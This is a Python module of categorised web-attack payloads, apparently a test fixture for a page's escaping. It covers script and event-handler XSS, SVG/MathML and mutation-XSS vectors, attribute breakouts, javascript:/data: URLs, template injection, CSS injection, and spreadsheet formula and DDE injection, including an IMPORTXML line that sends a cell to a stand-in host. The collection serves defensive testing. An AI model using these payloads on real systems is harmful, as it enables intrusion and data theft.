r"""Texts that would run, load, break out or mislead, were a page to take them for anything but text.

Whatever runs calls `alert(1)` or sets `window.__hit`; whatever loads asks `evil.invalid`.
"""

SCRIPTS = (
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<ScRiPt >alert(1)</sCrIpT >",
    "<script\x0c>alert(1)</script>", "<script/x>alert(1)</script>", "<script\n>alert(1)</script\n>",
    "<script\t type=text/javascript>alert(1)</script>", "<script src=https://evil.invalid/a.js></script>",
    "<script src=//evil.invalid/b.js></script>", '<script type="module">import "https://evil.invalid/c.js"</script>',
    "<script>window.__hit=1</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>",
    "<script>alert(1)", "<script>alert(1)//", "</script><script>alert(1)</script>",
    "</SCRIPT ><script>alert(1)</script >", "</script/><img src=x onerror=alert(1)>",
    "<script>/*</script><script>*/alert(1)</script>", "<script nomodule>alert(1)</script>",
    '<script src="data:text/javascript,alert(1)"></script>', "<script>`</script><script>`;alert(1)</script>",
    "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>", "<script>onerror=alert;throw 1</script>",
    "<script>[].constructor.constructor('alert(1)')()</script>", "<script async src='https://evil.invalid/d.js'/>",
)  # fmt: skip

EVENTS = (
    "<img src=x onerror=alert(1)>", "<img src=x OnErRoR=alert(1)>", "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">', "<img src=x onerror\x0c=alert(1)>", "<img src=x onerror=&#97;lert(1)>",
    "<img src=x onerror=\\u0061lert(1)>", "<img src=https://evil.invalid/e.png>",
    "<img srcset='https://evil.invalid/f.png 1x'>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<body onload=alert(1)>",
    "<body background=https://evil.invalid/g.png>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<video src=https://evil.invalid/h.mp4 autoplay>",
    "<video poster=https://evil.invalid/i.png>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x",
    "<marquee onstart=alert(1)>x</marquee>", "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)></b>",
    "<a onmouseover=alert(1)>x</a>", "<p onpointerenter=alert(1)>x", "<b onclick=alert(1)>x</b>",
    "<x contenteditable onblur=alert(1)>x", "<x onfocusin=alert(1) tabindex=1>x", "<dialog open onclose=alert(1)>x",
    "<div popover id=pop onbeforetoggle=alert(1)>x</div><button popovertarget=pop>x</button>",
    "<xss onscrollend=alert(1) style=overflow:auto>x", "<img src=x oncontentvisibilityautostatechange=alert(1)>",
)  # fmt: skip

FOREIGN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><script href=https://evil.invalid/j.js /></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x'/></svg>",
    "<svg><image href=https://evil.invalid/k.png /></svg>", "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(1)>'}</style></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]>",
    "<math><mtext><script>alert(1)</script></mtext></math>", "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=https://evil.invalid/l></iframe>", "<iframe onload=alert(1)></iframe>",
    "<frameset onload=alert(1)><frame src=https://evil.invalid/m></frameset>",
    "<object data=javascript:alert(1)></object>", "<object data=https://evil.invalid/n></object>",
    "<object type=text/html data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=https://evil.invalid/o.swf>", "<embed src=javascript:alert(1)>",
    "<applet code=https://evil.invalid/p.class></applet>", "<base href=https://evil.invalid/q/>",
    "<base target=_blank href='javascript:alert(1)//'>", "<link rel=stylesheet href=https://evil.invalid/r.css>",
    "<link rel=preload as=script href=https://evil.invalid/s.js>", "<link rel=dns-prefetch href=//evil.invalid>",
    "<link rel=import href=https://evil.invalid/t.html>", "<link rel=icon href=https://evil.invalid/u.ico>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/v'>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1)">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline' *\">", "<meta charset=utf-7>",
    "<form action=https://evil.invalid/w><button autofocus>x</button></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=x onerror=alert(1)>", "<portal src=https://evil.invalid/x></portal>",
    "<table background=https://evil.invalid/y.png><tr><td>x", "<bgsound src=https://evil.invalid/z.mid>",
    "<keygen autofocus onfocus=alert(1)>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<!ENTITY x 'alert(1)'>",
    "<fencedframe src=https://evil.invalid/aa></fencedframe>", "<track default src=https://evil.invalid/ab.vtt>",
    "<x-widget is=x onload=alert(1)></x-widget>", "<template shadowrootmode=open><script>alert(1)</script></template>",
)  # fmt: skip

BREAKOUTS = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", "`><script>alert(1)</script>",
    "><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)",
    " onmouseover=alert(1) x=", '" autofocus onfocus=alert(1) x="', "' autofocus onfocus=alert(1) x='",
    " autofocus onfocus=alert(1) tabindex=0 ", '"/onpointerover=alert(1)//',
    '" style="animation:x" onanimationend="alert(1)', '"onload=alert(1) ', '\\"><img src=x onerror=alert(1)>',
    "\\'><img src=x onerror=alert(1)>", "&quot;><img src=x onerror=alert(1)>", "&#39;><img src=x onerror=alert(1)>",
    '"\n\nonfocus=alert(1)\nautofocus\n', '" hidden aria-hidden="true', '" data-entry="other" data-s="1', '" id="words',
    '"></td></tr></tbody></table><img src=x onerror=alert(1)>', "</td><td data-s=9>9",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>", "</pre></code><img src=x onerror=alert(1)>",
    "</details></section></article></main></body></html><script>alert(1)</script>", "--><script>alert(1)</script>",
    "--!><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>", "<!---><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>", "</a><a href=javascript:alert(1)>x", "</h1><h1 onclick=alert(1)>x", "<plaintext>",
    "<!--",
)  # fmt: skip

ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "javascript\t:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)",
    "javascript://%0aalert(1)", "javascript://https://example.org/%0Aalert(1)",
    "javascript:https://example.org;alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "vbscript:msgbox(1)",
    "VBScript:alert(1)", "view-source:javascript:alert(1)", "blob:https://evil.invalid/ac", "file:///etc/passwd",
    "//evil.invalid/ad", "\\\\evil.invalid\\ae", "/\\evil.invalid/af", "https:evil.invalid/ag",
    'https://evil.invalid/ah" onmouseover="alert(1)', "https://evil.invalid/ai'onmouseover='alert(1)",
    "https://example.org@evil.invalid/aj", "https://evil.invalid/?q=</script><script>alert(1)</script>",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "x-javascript:alert(1)", "ｊavascript:alert(1)",
    "javascript：alert(1)", "../../../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fx",
    "#v=1&s=-<script>alert(1)</script>", "index.html?<script>alert(1)</script>", "mailto:a@evil.invalid?body=<script>",
)  # fmt: skip

TEMPLATES = (
    "{{7*7}}", "{{ 7 * 7 }}", "{% raw %}", "{% include '/etc/passwd' %}", "{%- for x in range(9) -%}x", "{# x #}",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "<%- alert(1) %>", "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}", "{{self._TemplateReference__context}}",
    "{{constructor.constructor('alert(1)')()}}", "[[7*7]]", "*{7*7}", "@(7*7)", "{{{7*7}}}", "{$x}", "%(x)s %s %n",
    "{0.__class__} {count} {all} {column}", "{{ words.shown }}", "{% endraw %}{{7*7}}",
    "{{ '<script>alert(1)</script>'|safe }}", "${alert(1)}", "`${alert(1)}`", "$(alert 1)", "`id`", "; ls", "$IFS$9",
)  # fmt: skip

EMBEDDED = (
    '"},"x":{"y":"</script><script>alert(1)</script>"', "</script>", "</ScRiPt\n>", "<!--<script>", "<!-- <script> -->",
    "<script><!--", "]]>", "<![CDATA[x]]>", "\u2028alert(1)\u2029", '\u2028"+alert(1)+"', '");alert(1);//',
    "');alert(1);//", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\\", '\\"', "*/alert(1)/*", "`+alert(1)+`", '{"__proto__":{"hidden":true}}', "__proto__", "constructor", "NaN",
    "-Infinity", "1e999", "</style><script>alert(1)</script>", "</STYLE ><img src=x onerror=alert(1)>",
    "expression(alert(1))", "url(https://evil.invalid/ak.png)", "url(javascript:alert(1))",
    "@import 'https://evil.invalid/al.css';", "}*{background:url(https://evil.invalid/am.png)}",
    "x:expression(alert(1));y:", "behavior:url(https://evil.invalid/an.htc)",
    "-moz-binding:url(https://evil.invalid/ao.xml#x)", "color:red;position:fixed;inset:0", "\\65 xpression(alert(1))",
    "@font-face{font-family:x;src:url(https://evil.invalid/ap.woff)}",
    "<b style='background:url(https://evil.invalid/aq.png)'>",
)  # fmt: skip

FORMULAS = (
    "=1+1", '=HYPERLINK("https://evil.invalid/ar","x")', "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1', "'=1+1", "%0A=1+1", "|calc",
    '=IMPORTXML(CONCAT("https://evil.invalid/as?",A1),"//x")', "-2+3+cmd|' /C calc'!D2", "=1,=2", "=1;=2", '=1","=2',
    '=DDE("cmd";"/C calc";"x")', "\u200b=1+1", "\ufeff=1+1", "x\n=1+1", "x\r=1+1",
    'x\r"=1+1',
)  # fmt: skip

LETTERS = (
    "\u202etxt.exe\u202c", "\u2066\u2067\u2068x\u2069", "\u202dabc\u202e<script>alert(1)</script>",
    "\u061c\u200e\u200f", "a\x00b", "\x00<script>alert(1)</script>", "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.invalid/at\x07x\x1b]8;;\x07", "\x07\x08\x0b\x0c\x0e\x1f\x7f", "\x80\x85\x9b31m", "\ud800",
    "\udfff<script>alert(1)</script>", "a\udc80b", "\ud83d\ud83d", "\u200bzero\u200cwidth\u200djoined\ufeff",
    "\ufffe\uffff", "\U000e0001\U000e0041", "e\u0301\u0301\u0301\u0301" * 20, "\r\n\r\n", "", " ", "\t", "\u3000",
    "\xa0", "�", "🏳️\u200d🌈👩\u200d⚕️", "x" * 20_000, "<" * 20_000, "&" * 5_000, "（" * 3_000,
    "＜script＞alert(1)＜/script＞", "﹤script﹥alert(1)﹤/script﹥", "＂onmouseover＝alert(1)",
    "〈script〉alert(1)〈/script〉", "‹script›alert(1)‹/script›", "ʺonmouseover=alert(1)", "％3Cscript％3E",
    "＆lt;script＆gt;", "，；：“”‘’《》【】", "患者，男，45岁。<br>发热3天。",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+ACIAPgA8-img src=x onerror=alert(1)+AD4-",
    "\x1b$B<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script>alert(1)", "&LT;script&GT;alert(1)", "&lt", "&#0;",
    "&#x110000;", "&#xD800;", "&nbsp;&copy", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E",
    "\\74script\\76 alert(1)", "null", "undefined", "None", "true", "0", "-0", "[object Object]",
)  # fmt: skip

MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<template><p title='</template><img src=x onerror=alert(1)>'></template>",
    "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
    "<noembed><p title='</noembed><svg onload=alert(1)>'>", "<noframes><p title='</noframes><svg onload=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<p><svg><p><title><a id='</title><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=alert(1)>'>",
    "<table><td></table><img src=x onerror=alert(1)>", "<b><i></b><img src=x onerror=alert(1)></i>",
    "<a href=1><table><a href=2><img src=x onerror=alert(1)>", "<img alt='`onerror=alert(1)//' src=x>",
    "<a name=words></a><a name=location></a>", "<img name=querySelector><img name=getElementById>",
    "<form name=body><input name=classList></form>", "<p id=words>{}</p>", "<iframe name=localStorage></iframe>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<ruby><rt><rp><img src=x onerror=alert(1)>",
)  # fmt: skip

PAYLOADS = (
    *SCRIPTS, *EVENTS, *FOREIGN, *BREAKOUTS, *ADDRESSES, *TEMPLATES, *EMBEDDED, *FORMULAS, *LETTERS, *MUTATIONS,
)  # fmt: skip
